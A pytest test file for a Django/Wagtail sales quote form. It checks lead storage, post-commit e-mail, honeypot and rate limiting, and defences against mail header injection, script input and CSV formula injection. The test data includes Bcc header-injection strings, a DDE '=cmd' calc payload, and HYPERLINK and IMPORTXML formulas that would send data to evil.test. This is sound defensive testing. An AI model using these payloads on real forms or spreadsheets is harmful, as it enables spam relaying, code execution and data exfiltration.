"""The quote form: a good request becomes a lead and an e-mail to sales; spam and malicious input are refused."""

import pytest
from django.core import mail
from wagtail.contrib.forms.models import FormSubmission

from cms.leads.models import Lead
from cms.leads.resources import LeadResource
from cms.leads.spreadsheets import neutralise_formula
from tests.cms.factories import quote_page

pytestmark = pytest.mark.django_db

GOOD = {
    "name": "Dana Buyer",
    "email": "dana@buyer.test",
    "company": "Buyer Inc",
    "service": "Smart Hands",
    "message": "Two racks in Ashburn.\nNeed fiber testing.",
}


def post(client, page, data, **extra):
    return client.post(page.url, data, **extra)


def test_valid_request_is_stored_emailed_after_commit_and_thanked(client, django_capture_on_commit_callbacks):
    page = quote_page()
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = post(client, page, GOOD)
    assert response.status_code == 200
    assert "Thank you, we will be in touch." in response.content.decode()
    lead = Lead.objects.get()
    assert (lead.name, lead.email, lead.company_name, lead.service) == (
        "Dana Buyer",
        "dana@buyer.test",
        "Buyer Inc",
        "Smart Hands",
    )
    assert lead.message.startswith("Two racks") and lead.source_ip == "127.0.0.1"
    assert FormSubmission.objects.filter(page=page).count() == 1 and lead.form_submission is not None
    assert len(callbacks) == 1
    [message] = mail.outbox
    assert message.to == ["sales@serverstock.test"]
    assert message.subject == f"New quote request (lead #{lead.pk})"
    assert "Name: Dana Buyer" in message.body and "Need fiber testing." in message.body
    assert message.reply_to == [] and message.cc == [] and message.bcc == []


def test_no_email_before_the_transaction_commits(client, django_capture_on_commit_callbacks):
    page = quote_page()
    with django_capture_on_commit_callbacks(execute=False):
        post(client, page, GOOD)
    assert Lead.objects.count() == 1
    assert mail.outbox == []


def test_honeypot_is_refused(client, django_capture_on_commit_callbacks):
    page = quote_page()
    with django_capture_on_commit_callbacks(execute=True):
        response = post(client, page, {**GOOD, "fax_number": "http://spam.test"})
    assert response.status_code == 400
    assert "could not be sent" in response.content.decode()
    assert not Lead.objects.exists() and not FormSubmission.objects.exists()
    assert mail.outbox == []


def test_rate_limit_per_client_address(client, settings, django_capture_on_commit_callbacks):
    settings.CMS_QUOTE_RATE_LIMIT = 2
    page = quote_page()
    with django_capture_on_commit_callbacks(execute=True):
        assert post(client, page, GOOD).status_code == 200
        assert post(client, page, GOOD).status_code == 200
        refused = post(client, page, GOOD)
        other_address = post(client, page, GOOD, REMOTE_ADDR="192.0.2.7")
    assert refused.status_code == 429
    assert "try again later" in refused.content.decode()
    assert other_address.status_code == 200
    assert Lead.objects.count() == 3
    assert len(mail.outbox) == 3


@pytest.mark.parametrize(
    "field, value",
    [
        ("name", "Eve\r\nBcc: victim@example.test"),
        ("company", "Evil\nSubject: you won"),
        ("email", "eve@example.test\nBcc: victim@example.test"),
    ],
)
def test_header_injection_is_refused(client, field, value, django_capture_on_commit_callbacks):
    page = quote_page()
    with django_capture_on_commit_callbacks(execute=True):
        response = post(client, page, {**GOOD, field: value})
    assert response.status_code == 200
    assert "Please correct the fields marked below." in response.content.decode()
    assert not Lead.objects.exists()
    assert mail.outbox == []


def test_visitor_text_never_reaches_a_mail_header(client, django_capture_on_commit_callbacks):
    page = quote_page()
    data = {**GOOD, "message": "Hello\nBcc: victim@example.test\nSubject: spam"}
    with django_capture_on_commit_callbacks(execute=True):
        post(client, page, data)
    [message] = mail.outbox
    headers = message.message()
    assert headers["Bcc"] is None and "victim" not in (headers["To"] + headers["Subject"])
    assert message.recipients() == ["sales@serverstock.test"]


def test_missing_oversized_and_html_input(client):
    page = quote_page()
    missing = post(client, page, {**GOOD, "email": ""})
    assert "This field is required." in missing.content.decode()
    oversized = post(client, page, {**GOOD, "message": "x" * 5001})
    assert "at most 5000 characters" in oversized.content.decode()
    assert not Lead.objects.exists()
    html = post(client, page, {**GOOD, "name": "<script>alert(1)</script>"})
    assert html.status_code == 200
    assert Lead.objects.get().name == "<script>alert(1)</script>"  # stored as text, escaped wherever shown


def test_leads_appear_in_the_staff_admin(client, superuser, client_for):
    page = quote_page()
    post(client, page, {**GOOD, "name": "<b>Bold</b> Buyer"})
    response = client_for(superuser).get("/admin/leads/lead/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "&lt;b&gt;Bold&lt;/b&gt; Buyer" in html and "<b>Bold</b>" not in html


def test_formula_neutralisation():
    assert neutralise_formula("=1+1") == "'=1+1"
    for prefix in "+-@":
        assert neutralise_formula(f"{prefix}cmd") == f"'{prefix}cmd"
    assert neutralise_formula("Dana") == "Dana"
    assert neutralise_formula(42) == 42


def test_lead_export_neutralises_spreadsheet_formulas():
    Lead.objects.create(
        name='=HYPERLINK("http://evil.test","click")',
        company_name="+1 Acme",
        phone="-2+3",
        message="@SUM(A1:A2)",
        email="ok@buyer.test",
    )
    dataset = LeadResource().export()
    row = dict(zip(dataset.headers, dataset[0], strict=True))
    assert row["name"] == '\'=HYPERLINK("http://evil.test","click")'
    assert row["company_name"] == "'+1 Acme" and row["phone"] == "'-2+3" and row["message"] == "'@SUM(A1:A2)"
    assert row["email"] == "ok@buyer.test"


def test_admin_csv_export_neutralises_formulas(superuser, client_for):
    Lead.objects.create(name="=cmd|'/c calc'!A1", email="x@buyer.test")
    client = client_for(superuser)
    response = client.post("/admin/leads/lead/export/", {"format": "0", "resource": "0"})
    if response.status_code == 200 and response.get("Content-Type", "").startswith("text/csv"):
        assert "'=cmd" in response.content.decode()
    else:  # the export form asks which fields: choose them all
        response = client.post(
            "/admin/leads/lead/export/",
            {"format": "0", "resource": "0", **{f"leadresource_{name}": "on" for name in ("id", "name", "email")}},
        )
        assert response.status_code == 200, response.content[:300]
        body = response.content.decode()
        assert "'=cmd" in body and "\n=cmd" not in body


def test_wagtail_submissions_export_neutralises_formulas(client, superuser, client_for):
    page = quote_page()
    post(client, page, {**GOOD, "name": '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")'})
    response = client_for(superuser).get(f"/cms/forms/submissions/{page.pk}/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    assert "'=IMPORTXML" in body
    assert ",=IMPORTXML" not in body
